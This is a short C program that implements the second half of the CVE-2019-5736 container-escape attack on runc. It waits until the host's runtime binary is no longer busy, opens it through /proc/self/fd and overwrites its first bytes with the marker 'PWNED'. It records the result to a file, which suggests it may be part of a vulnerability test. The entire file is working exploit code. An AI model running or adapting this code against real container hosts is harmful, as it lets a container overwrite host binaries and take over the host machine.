/* The second half of the CVE-2019-5736 attack: given an fd (argv[1]) that a process of the
 * container opened on /proc/self/exe while it ran the host's interpreter, wait until no
 * process runs that binary any more (ETXTBSY until then), open it for writing through
 * /proc/self/fd and overwrite its first bytes. Writes what happened to argv[2]. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void report(const char *path, const char *what) {
    FILE *out = fopen(path, "w");
    if (out) {
        fputs(what, out);
        fclose(out);
    }
}

int main(int argc, char **argv) {
    if (argc != 3) {
        return 2;
    }
    char target[64];
    snprintf(target, sizeof target, "/proc/self/fd/%s", argv[1]);
    struct timespec pause = {0, 20 * 1000 * 1000};
    for (int attempt = 0; attempt < 1500; attempt++) {
        int fd = open(target, O_WRONLY);
        if (fd >= 0) {
            ssize_t written = write(fd, "PWNED", 5);
            report(argv[2], written == 5 ? "rewrote" : "write failed");
            return 0;
        }
        if (errno != ETXTBSY) {
            char reason[128];
            snprintf(reason, sizeof reason, "refused: %s", strerror(errno));
            report(argv[2], reason);
            return 0;
        }
        nanosleep(&pause, NULL);
    }
    report(argv[2], "gave up");
    return 0;
}
